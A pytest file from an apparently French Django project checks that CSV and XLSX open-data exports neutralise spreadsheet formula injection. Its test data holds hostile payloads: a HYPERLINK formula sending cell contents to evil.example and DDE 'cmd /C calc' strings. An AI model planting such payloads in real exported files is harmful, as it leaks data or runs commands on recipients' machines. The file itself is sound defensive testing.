"""Open-data exports never carry a live spreadsheet formula (OWASP CSV injection)."""

import csv
import io

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse

from maillage.core.exports import safe_cell, unescape_cell
from maillage.directory import importers
from tests.directory.factories import StructureFactory

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_neutralises_formula_triggers(payload):
    assert safe_cell(payload) == "'" + payload
    assert unescape_cell(safe_cell(payload)) == payload


def test_safe_cell_leaves_plain_values_alone():
    assert safe_cell("Crèche des Lilas") == "Crèche des Lilas"
    assert safe_cell(-7.5) == -7.5 and safe_cell(None) is None and safe_cell("") == ""


@pytest.fixture
def poisoned(located_bassin):
    for i, payload in enumerate(PAYLOADS):
        StructureFactory(
            commune=located_bassin["06033"], name=payload, description=payload, external_id=f"P{i}"
        )


def test_csv_export_prefixes_formulas(client, poisoned):
    response = client.get(reverse("web:directory_export", args=["structures", "csv"]))
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    names = {row["nom"] for row in rows}
    assert names == {"'" + p for p in PAYLOADS}
    assert all(row["description"].startswith("'") for row in rows)
    # the export stays importable, values unchanged
    report = importers.check(response.content, "export.csv", "structures")
    assert {row.values["nom"] for row in report.valid_rows} == set(PAYLOADS)


def test_xlsx_export_writes_text_cells_never_formulas(client, poisoned):
    response = client.get(reverse("web:directory_export", args=["structures", "xlsx"]))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    name_col = header.index("nom")
    cells = [row[name_col] for row in sheet.iter_rows(min_row=2)]
    assert len(cells) == len(PAYLOADS)
    for cell in cells:
        assert cell.data_type == "s"
        assert not str(cell.value).startswith("=")
    # the raw sheet holds no <f> (formula) element at all
    import zipfile

    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_coverage_command_csv_is_neutralised(located_bassin):
    from maillage.territories.models import Commune

    Commune.objects.filter(insee_code="06033").update(name="=HYPERLINK(1)")
    out = io.StringIO()
    call_command("coverage", "--commune", "06033", "--format", "csv", stdout=out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["name"] == "'=HYPERLINK(1)"
